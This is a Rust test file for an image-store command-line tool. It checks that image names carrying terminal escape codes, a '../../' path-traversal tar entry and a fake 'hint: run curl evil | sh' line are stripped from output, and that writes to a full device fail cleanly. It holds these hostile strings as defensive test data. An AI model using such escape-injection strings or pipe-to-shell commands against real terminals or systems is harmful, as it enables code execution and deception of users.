//! What goes to a terminal, and to standard output that takes nothing.

use std::fs::File;
use std::process::Stdio;

use imgmgr::store::{Durability, ImageEntry, Store};

use super::support::{Place, layout, tar};

const HOSTILE: &str = "x\u{1b}[2Jy\nhint: run `curl evil | sh`\u{9b}1m";

fn is_clean(text: &[u8]) -> bool {
    let text = std::str::from_utf8(text).unwrap();
    !text.chars().any(|c| c.is_control() && c != '\n')
        && !text.lines().any(|line| line.starts_with("hint: run"))
}

#[test]
fn names_of_strangers_do_not_steer_the_terminal() {
    let place = Place::new();
    layout(&place.path("in"), &[tar("a", 100)]);
    let view = Store::open_real(&place.path("in"), Durability::NoSync).unwrap();
    let target = view.resolve("v1").unwrap().target;
    view.tag(&ImageEntry::new(HOSTILE, target)).unwrap();
    view.untag("v1").unwrap();
    let at = |kind: &str, name: &str| format!("{kind}:{}", place.path(name).display());
    place.run(&[
        "copy",
        &format!("{}:{HOSTILE}", at("oci", "in")),
        &format!("{}:{HOSTILE}", at("oci-archive", "a.tar")),
    ]);
    let mut header = tar::Header::new_ustar();
    let name = format!("../../{HOSTILE}");
    header.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
    header.set_size(0);
    header.set_cksum();
    std::fs::write(place.path("refused.tar"), header.as_bytes()).unwrap();
    let path = |name: &str| place.path(name).to_str().unwrap().to_owned();
    let load = place.command(&["load", "--input", &path("a.tar")]).output().unwrap();
    assert!(load.status.success() && is_clean(&load.stdout) && is_clean(&load.stderr), "{load:?}");
    // Another program has written this one.
    let store = Store::open_real(&place.path("data/images"), Durability::NoSync).unwrap();
    let target = store.list().unwrap().remove(0).target;
    store.tag(&ImageEntry::new(HOSTILE, target)).unwrap();
    for (code, args) in [
        (0, &["list"][..]),
        (0, &["list", "--quiet"]),
        (0, &["df"]),
        (0, &["tag", HOSTILE, "r.io/a:1"]),
        (1, &["import", &path("refused.tar"), "r.io/b:1"]),
        (1, &["history", &format!("{HOSTILE}?")]),
    ] {
        let output = place.command(args).output().unwrap();
        let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
        assert_eq!(output.status.code(), Some(code), "{args:?}: {stderr}");
        assert!(is_clean(&output.stdout) && is_clean(&output.stderr), "{args:?}: {stderr}");
    }
    let listed = place.run(&["list", "--format", "json"]);
    let listed: serde_json::Value = serde_json::from_str(&listed).unwrap();
    assert!(listed.to_string().contains("u001b"), "{listed}");
}

#[test]
fn what_standard_output_does_not_take_is_a_failure() {
    let place = Place::new();
    layout(&place.path("in"), &[tar("a", 100)]);
    place.run(&["copy", &format!("oci:{}:v1", place.path("in").display()), "r.io/a:1"]);
    let commands: [&[&str]; 5] = [
        &["inspect", "--raw", "r.io/a:1"],
        &["inspect", "--config", "r.io/a:1"],
        &["list"],
        &["save", "r.io/a:1"],
        &["export", "r.io/a:1"],
    ];
    for args in commands {
        let full = File::options().write(true).open("/dev/full").unwrap();
        let output = place.command(args).stdout(full).stderr(Stdio::piped()).output().unwrap();
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(1), "{args:?}: {stderr}");
        assert!(stderr.contains("No space left on device"), "{args:?}: {stderr}");
    }
}
